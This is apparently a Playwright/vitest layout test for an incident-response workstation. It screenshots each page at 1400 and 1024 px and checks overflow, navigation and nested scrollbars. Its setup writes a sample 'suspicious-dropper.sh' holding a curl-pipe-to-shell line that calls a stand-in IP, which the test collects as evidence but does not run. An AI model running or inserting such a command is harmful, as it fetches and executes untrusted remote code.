/**
 * Every page of the workstation at 1400 and 1024 px wide, with real content (a case, a console with
 * output, log entries, evidence), screenshotted into test-results/ (`screens-<page>-<width>.png`) so the
 * layout can be looked at after each change. Checked at both widths, for every page:
 *   - nothing overflows the window sideways (no horizontal scrollbar on the document);
 *   - the navigation and the page's title are visible;
 *   - at most one scrolling region is nested inside the page's own (no scrollbar inside a scrollbar
 *     inside a scrollbar).
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCase, openCase, openPage } from './cases-helpers.js';
import { launchChromium, screenshot } from './helpers.js';
import {
  ensureWorkstationBuilt,
  focusConsole,
  HOST,
  openConsoleFor,
  run,
  startWorkstation,
  type Workstation,
} from './workstation-helpers.js';

const WIDTHS = [1400, 1024] as const;
const PAGES = ['devices', 'consoles', 'log', 'library', 'cases', 'settings'] as const;

let ws: Workstation;
let browser: Browser;
let page: Page;
let fixture: string;
let caseId: string;

interface Layout {
  docOverflow: number;
  navVisible: boolean;
  title: string;
  nestedScrollers: number;
}

const MEASURE = `(() => {
  const doc = document.documentElement;
  const scrolls = (el) => {
    const style = getComputedStyle(el);
    return /(auto|scroll)/.test(style.overflowY) && el.scrollHeight > el.clientHeight + 1 && el.clientHeight > 0;
  };
  // The deepest chain of scrolling ancestors any element sits in (xterm's own viewport excluded).
  let nestedScrollers = 0;
  for (const el of Array.from(document.querySelectorAll('*'))) {
    if (el.closest('.xterm') || !scrolls(el)) continue;
    let depth = 1;
    for (let up = el.parentElement; up; up = up.parentElement) if (scrolls(up)) depth++;
    nestedScrollers = Math.max(nestedScrollers, depth);
  }
  const navBox = document.querySelector('[data-testid="nav-devices"]')?.getBoundingClientRect();
  return {
    docOverflow: doc.scrollWidth - doc.clientWidth,
    navVisible: !!navBox && navBox.width > 0 && navBox.height > 0,
    title: document.querySelector('[data-testid="section-title"]')?.textContent ?? '',
    nestedScrollers,
  };
})()`;

/** Measures the layout facts checked on every page (in the page, from the DOM as painted). */
function layout(p: Page): Promise<Layout> {
  return p.evaluate(MEASURE) as Promise<Layout>;
}

beforeAll(async () => {
  ensureWorkstationBuilt();
  fixture = mkdtempSync(path.join(tmpdir(), 'lr-screens-e2e-'));
  writeFileSync(path.join(fixture, 'suspicious-dropper.sh'), '#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n');
  ws = await startWorkstation();
  browser = await launchChromium();
  page = await openPage(browser, ws, { deviceOnline: true });
}, 120_000);

afterAll(async () => {
  await page?.close().catch(() => undefined);
  await browser?.close();
  await ws?.cleanup();
  if (fixture) rmSync(fixture, { recursive: true, force: true });
});

describe('every page at 1400 and 1024 px', () => {
  it('content: a case, a console with output, log entries, evidence', async () => {
    caseId = await createCase(page, 'Screens: host compromise');
    const sessionId = await openConsoleFor(page, HOST);
    await focusConsole(page, HOST);
    await run(page, sessionId, `dir ${fixture}`);
    await run(page, sessionId, `getfile ${path.join(fixture, 'suspicious-dropper.sh')}`);
    await run(page, sessionId, 'processes -name node');
  });

  for (const width of WIDTHS) {
    it(`${width} px: no sideways overflow, navigation and title visible, no nested scrollbars; screenshots`, async () => {
      await page.setViewportSize({ width, height: 860 });
      const problems: string[] = [];
      for (const id of PAGES) {
        if (id === 'cases') await openCase(page, caseId, 'evidence');
        else await page.getByTestId(`nav-${id}`).click();
        await page.getByTestId(`section-${id}`).waitFor();
        if (id === 'log') await page.getByTestId('log-row').first().click();
        if (id === 'cases') await page.locator('[data-testid^="evidence-row-"]').first().click();
        // Let the layout settle (fonts, virtual lists measuring their rows).
        await page.waitForTimeout(300);
        await screenshot(page, `screens-${id}-${width}`);
        const facts = await layout(page);
        if (facts.docOverflow > 1) problems.push(`${id}: the document overflows by ${facts.docOverflow} px sideways`);
        if (!facts.navVisible) problems.push(`${id}: navigation not visible`);
        if (!facts.title.trim()) problems.push(`${id}: no page title`);
        if (facts.nestedScrollers > 2) problems.push(`${id}: ${facts.nestedScrollers} nested scrolling regions`);
      }
      expect(problems).toEqual([]);
    });
  }
});
